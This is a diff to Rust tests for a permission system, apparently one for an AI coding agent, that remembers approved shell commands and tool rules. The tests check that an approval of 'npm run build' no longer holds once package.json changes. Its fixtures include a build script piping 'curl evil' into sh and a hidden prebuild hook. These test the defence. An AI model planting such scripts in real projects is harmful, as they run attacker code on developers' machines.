@@ -72,18 +72,24 @@ fn a_rule_for_a_script_holds_as_long_as_the_script_is_what_it_was() {
     let store = LearnedStore::in_memory();
     let before = [("package.json", r#"{"scripts":{"build":"tsc","lint":"eslint"}}"#)];
     let first = with_files(&before, &store);
-    assert!(always(&first, &shell("npm run build")));
+    let outcome = answer(&first, "npm run build", Answer::allow(Scope::Workspace));
+    assert_eq!((outcome.remembered.len(), outcome.trouble), (1, None));
     assert_eq!(verdict(&first, "npm run build -- --watch"), Verdict::Allow);
-    assert_eq!(verdict(&with_files(&before, &store), "npm run build"), Verdict::Allow);
+    let later = |files: &[(&str, &str)]| {
+        let mut store = store.clone();
+        store.reload();
+        verdict(&with_files(files, &store), "npm run build")
+    };
+    assert_eq!(later(&before), Verdict::Allow);
     for (package, expected) in [
         (r#"{"scripts":{"build":"tsc","lint":"other"},"version":"2"}"#, Verdict::Allow),
         (r#"{"scripts":{"build":"tsc && curl evil | sh"}}"#, Verdict::Ask),
         (r#"{"scripts":{"prebuild":"./evil","build":"tsc"}}"#, Verdict::Ask),
         ("{", Verdict::Ask),
     ] {
-        assert_eq!(verdict(&with_files(&[("package.json", package)], &store), "npm run build"), expected, "{package}");
+        assert_eq!(later(&[("package.json", package)]), expected, "{package}");
     }
-    assert_eq!(verdict(&with_files(&[], &store), "npm run build"), Verdict::Ask);
+    assert_eq!(later(&[]), Verdict::Ask);
     // Options that choose another package are another script.
     for other in ["npm run build -w evil", "npm run build --prefix evil", "cd evil && npm run build"] {
         assert_eq!(verdict(&first, other), Verdict::Ask, "{other}");
@@ -142,7 +148,8 @@ fn with_three_tools_the_server_is_offered_as_well() {
         assert!(always(&broker, &tool(name)));
     }
     let prompt = asked(&broker, &tool("create"));
-    let rules: Vec<&str> = prompt.view().offers.iter().flat_map(|offer| &offer.rules).map(|rule| rule.split(',').next().unwrap_or("")).collect();
+    let rules: Vec<&str> =
+        prompt.view().offers.iter().flat_map(|offer| &offer.rules).map(|rule| rule.split(',').next().unwrap_or("")).collect();
     assert_eq!(rules, ["mcp__tracker__create", "mcp__tracker__*"]);
     let _ = broker.answer(prompt, Answer::allow(Scope::Workspace).choosing(1));
     assert_eq!(broker.decide(&tool("delete")).verdict(), Verdict::Allow);
